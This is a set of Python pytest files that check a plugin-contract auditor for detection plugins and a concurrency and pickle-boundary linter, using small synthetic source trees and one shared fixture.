def make_tree(tmp_path: Path, module_source: str, init_source: str | None) -> Path:
    root = tmp_path / "repro"
    plugins = root / "core" / "tsunami" / "plugins"
    plugins.mkdir(parents=True)
    (plugins / "sample.py").write_text(module_source)
    if init_source is not None:
        (plugins / "__init__.py").write_text(init_source)
    return root


def audit(tmp_path: Path, module_source: str,
          init_source: str | None = "ALL_PLUGINS = (GoodPlugin(),)\n"):
    root = make_tree(tmp_path, module_source, init_source)
    return PluginContractAuditor(
        root, known_slugs=KNOWN, signature_slugs=KNOWN
    ).run()


GOOD_PLUGIN = (
    "from repro.core.tsunami.plugin import MavDetectionPlugin\n"
    "\n"
    "class GoodPlugin(MavDetectionPlugin):\n"
    '    slug = "good"\n'
    "\n"
    "    def detect(self, context):\n"
    '        return context.fetch("/")\n'
)


class TestRealTree:
    def test_shipping_plugins_honour_the_contract(self):
        assert PluginContractAuditor(REPRO_ROOT).run() == []

    def test_registry_extraction_sees_all_18(self):
        names = extract_registered_names(
            REPRO_ROOT / "core" / "tsunami" / "plugins" / "__init__.py"
        )
        assert names is not None and len(names) == 18


class TestContractRules:
    def test_clean_plugin_passes(self, tmp_path):
        assert audit(tmp_path, GOOD_PLUGIN) == []

    def test_not_subclassing_base(self, tmp_path):
        source = (
            "class GoodPlugin:\n"
            '    slug = "good"\n'
            "    def detect(self, context):\n"
            "        return None\n"
        )
        findings = audit(tmp_path, source)
        assert [f.rule for f in findings] == ["PLG001"]

    def test_transitive_subclassing_accepted(self, tmp_path):
        source = (
            "from repro.core.tsunami.plugin import MavDetectionPlugin\n"
            "class _Base(MavDetectionPlugin):\n"
            "    def detect(self, context):\n"
            "        return None\n"
            "class GoodPlugin(_Base):\n"
            '    slug = "good"\n'
        )
        assert audit(tmp_path, source) == []

    def test_unknown_slug(self, tmp_path):
        source = GOOD_PLUGIN.replace('"good"', '"mystery"')
        findings = audit(tmp_path, source)
        assert {f.rule for f in findings} == {"PLG002"}
        assert any("mystery" in f.message for f in findings)

    def test_unregistered_plugin(self, tmp_path):
        findings = audit(tmp_path, GOOD_PLUGIN, init_source="ALL_PLUGINS = ()\n")
        assert [f.rule for f in findings] == ["PLG003"]

    def test_missing_registry_skips_registration_check(self, tmp_path):
        assert audit(tmp_path, GOOD_PLUGIN, init_source=None) == []

    def test_raw_transport_access(self, tmp_path):
        source = GOOD_PLUGIN.replace(
            'context.fetch("/")', 'context.transport.get("/")'
        )
        findings = audit(tmp_path, source)
        assert [f.rule for f in findings] == ["PLG004"]

    @pytest.mark.parametrize(
        "statement",
        ["import socket", "import requests", "from repro.net.transport import Transport"],
    )
    def test_forbidden_imports(self, tmp_path, statement):
        findings = audit(tmp_path, statement + "\n" + GOOD_PLUGIN)
        assert [f.rule for f in findings] == ["PLG004"]

    def test_bare_except(self, tmp_path):
        source = (
            "from repro.core.tsunami.plugin import MavDetectionPlugin\n"
            "class GoodPlugin(MavDetectionPlugin):\n"
            '    slug = "good"\n'
            "    def detect(self, context):\n"
            "        try:\n"
            '            return context.fetch("/")\n'
            "        except:\n"
            "            return None\n"
        )
        findings = audit(tmp_path, source)
        assert [f.rule for f in findings] == ["PLG005"]

    def test_mutating_call(self, tmp_path):
        source = GOOD_PLUGIN.replace('context.fetch("/")', 'context.post("/")')
        findings = audit(tmp_path, source)
        assert [f.rule for f in findings] == ["PLG006"]

    def test_duplicate_slug(self, tmp_path):
        source = GOOD_PLUGIN + (
            "\nclass OtherPlugin(MavDetectionPlugin):\n"
            '    slug = "good"\n'
            "    def detect(self, context):\n"
            "        return None\n"
        )
        findings = audit(
            tmp_path, source,
            init_source="ALL_PLUGINS = (GoodPlugin(), OtherPlugin())\n",
        )
        assert [f.rule for f in findings] == ["PLG007"]
