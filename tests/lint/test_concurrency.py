"""RACE/PKL rules: each family's positive and negative cases, the
seeded regression corpus, and the clean-tree guarantee."""

from __future__ import annotations

from pathlib import Path

from repro.lint.concurrency import ConcurrencyAuditor

from tests.lint import check_seeded_corpus


def make_tree(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "repro"
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    return root


def audit(tmp_path: Path, files: dict[str, str]):
    return ConcurrencyAuditor(make_tree(tmp_path, files)).run()


def rules(findings) -> set[str]:
    return {f.rule for f in findings}


class TestRace001ModuleState:
    def test_worker_writing_a_module_dict_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"mod.py": (
            'WORKER_ENTRY_POINTS = ("repro.mod.work",)\n'
            "COUNTS = {}\n"
            "\n"
            "\n"
            "def work(item):\n"
            "    COUNTS[item] = 1\n"
            "    return item\n"
        )})
        assert [(f.rule, f.line) for f in findings] == [("RACE001", 6)]

    def test_global_declaration_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"mod.py": (
            'WORKER_ENTRY_POINTS = ("repro.mod.work",)\n'
            "TOTAL = 0\n"
            "\n"
            "\n"
            "def work():\n"
            "    global TOTAL\n"
            "    TOTAL += 1\n"
        )})
        assert rules(findings) == {"RACE001"}
        assert "global TOTAL" in findings[0].message

    def test_writes_to_locals_and_params_are_fine(self, tmp_path):
        findings = audit(tmp_path, {"mod.py": (
            'WORKER_ENTRY_POINTS = ("repro.mod.work",)\n'
            "\n"
            "\n"
            "def work(acc):\n"
            "    local = {}\n"
            "    local['a'] = 1\n"
            "    acc['b'] = 2\n"
            "    return local\n"
        )})
        assert findings == []


class TestRace002SharedSelf:
    SHARED_COUNTER = (
        "from concurrent.futures import ThreadPoolExecutor\n"
        "\n"
        "\n"
        "class Engine:\n"
        "    def __init__(self):\n"
        "        self.done = 0\n"
        "\n"
        "    def run(self, shards):\n"
        "        with ThreadPoolExecutor() as pool:\n"
        "            for shard in shards:\n"
        "                pool.submit(self._work, shard)\n"
        "\n"
        "    def _work(self, shard):\n"
        "        self.done += 1\n"
        "        return shard\n"
    )

    def test_worker_method_writing_self_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": self.SHARED_COUNTER})
        race = [f for f in findings if f.rule == "RACE002"]
        assert len(race) == 1
        assert race[0].line == 14
        assert "Engine._work" in race[0].message

    def test_init_writes_are_sanctioned(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": self.SHARED_COUNTER})
        assert not [f for f in findings if f.line == 6]

    def test_shard_local_objects_may_mutate_freely(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": (
            'WORKER_ENTRY_POINTS = ("repro.eng.Runner.run",)\n'
            "\n"
            "\n"
            "class Pipeline:\n"
            "    def __init__(self):\n"
            "        self.hits = []\n"
            "\n"
            "    def record(self, hit):\n"
            "        self.hits.append(hit)\n"
            "        self.count = len(self.hits)\n"
            "\n"
            "\n"
            "class Runner:\n"
            "    def run(self, shard):\n"
            "        pipeline = Pipeline()\n"
            "        pipeline.record(shard)\n"
            "        return pipeline.hits\n"
        )})
        assert not [f for f in findings if f.rule == "RACE002"]


class TestRace003DispatchClosures:
    def test_inline_lambda_to_submit_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": (
            "def run(pool, shards):\n"
            "    results = []\n"
            "    for shard in shards:\n"
            "        pool.submit(lambda: results.append(shard))\n"
            "    return results\n"
        )})
        assert rules(findings) == {"RACE003"}

    def test_nested_def_with_free_variables_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": (
            "def run(pool, shards):\n"
            "    seen = set()\n"
            "    def note(shard):\n"
            "        seen.add(shard)\n"
            "    for shard in shards:\n"
            "        pool.submit(note, shard)\n"
        )})
        race = [f for f in findings if f.rule == "RACE003"]
        assert len(race) == 1
        assert "'seen'" in race[0].message or "seen" in race[0].message

    def test_closed_nested_def_is_fine(self, tmp_path):
        findings = audit(tmp_path, {"eng.py": (
            "def run(pool, shards):\n"
            "    def double(shard):\n"
            "        return shard * 2\n"
            "    return [pool.submit(double, s) for s in shards]\n"
        )})
        assert not [f for f in findings if f.rule == "RACE003"]


class TestPickleBoundary:
    def test_unstripped_telemetry_handle_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "class Transport:\n"
            "    def __init__(self, telemetry=None):\n"
            "        self.telemetry = telemetry\n"
            "\n"
            "    def fork(self, seed):\n"
            "        return Transport()\n"
        )})
        pkl = [f for f in findings if f.rule == "PKL002"]
        assert len(pkl) == 1 and pkl[0].line == 3

    def test_getstate_stripping_silences_pkl002(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "class Transport:\n"
            "    def __init__(self, telemetry=None):\n"
            "        self.telemetry = telemetry\n"
            "\n"
            "    def fork(self, seed):\n"
            "        return Transport()\n"
            "\n"
            "    def __getstate__(self):\n"
            "        state = dict(self.__dict__)\n"
            "        state['telemetry'] = None\n"
            "        return state\n"
        )})
        assert not [f for f in findings if f.rule == "PKL002"]

    def test_getstate_in_a_base_class_counts(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "class Base:\n"
            "    def __getstate__(self):\n"
            "        state = dict(self.__dict__)\n"
            "        state.pop('telemetry', None)\n"
            "        return state\n"
            "\n"
            "\n"
            "class Transport(Base):\n"
            "    def __init__(self, telemetry=None):\n"
            "        self.telemetry = telemetry\n"
            "\n"
            "    def fork(self, seed):\n"
            "        return Transport()\n"
        )})
        assert not [f for f in findings if f.rule == "PKL002"]

    def test_lock_on_a_boundary_class_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "import threading\n"
            "\n"
            'PICKLE_BOUNDARY_TYPES = ("repro.net.Runner",)\n'
            "\n"
            "\n"
            "class Runner:\n"
            "    def __init__(self):\n"
            "        self._lock = threading.Lock()\n"
        )})
        pkl = [f for f in findings if f.rule == "PKL003"]
        assert len(pkl) == 1
        assert "thread lock" in pkl[0].message

    def test_stored_lambda_in_adjacent_module_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "class Transport:\n"
            "    def fork(self, seed):\n"
            "        return self\n"
            "\n"
            "\n"
            "def build(transport, server):\n"
            "    server.responder = lambda request: 'x'\n"
        )})
        pkl = [f for f in findings if f.rule == "PKL001"]
        assert len(pkl) == 1 and pkl[0].line == 7

    def test_lambda_into_boundary_constructor_is_flagged(self, tmp_path):
        findings = audit(tmp_path, {"net.py": (
            "class Transport:\n"
            "    def __init__(self, responder=None):\n"
            "        self.responder = responder\n"
            "\n"
            "    def fork(self, seed):\n"
            "        return self\n"
            "\n"
            "\n"
            "def build():\n"
            "    return Transport(responder=lambda request: 'x')\n"
        )})
        assert "PKL001" in rules(findings)

    def test_plain_classes_are_not_boundary_audited(self, tmp_path):
        findings = audit(tmp_path, {"app.py": (
            "import threading\n"
            "\n"
            "\n"
            "class MainOnly:\n"
            "    def __init__(self, telemetry):\n"
            "        self.telemetry = telemetry\n"
            "        self._lock = threading.Lock()\n"
        )})
        assert findings == []


class TestRegressionCorpus:
    """The analyzer must flag exactly the seeded PR-7 bugs — no more,
    no less (same assertion the CI gate script makes)."""

    def test_seeded_corpus_matches_expected_exactly(self):
        assert check_seeded_corpus.check() == []


class TestCleanTree:
    def test_real_tree_has_zero_race_or_pkl_findings(self):
        import repro

        root = Path(repro.__file__).resolve().parent
        findings = ConcurrencyAuditor(root).run()
        assert findings == []
