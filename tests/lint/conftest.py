"""Shared lint-test fixtures."""

from __future__ import annotations

import pytest

from repro.lint.corpus import build_corpus


@pytest.fixture(scope="session")
def signature_corpus():
    """The canned-page ground-truth corpus (read-only, so shared)."""
    return build_corpus()
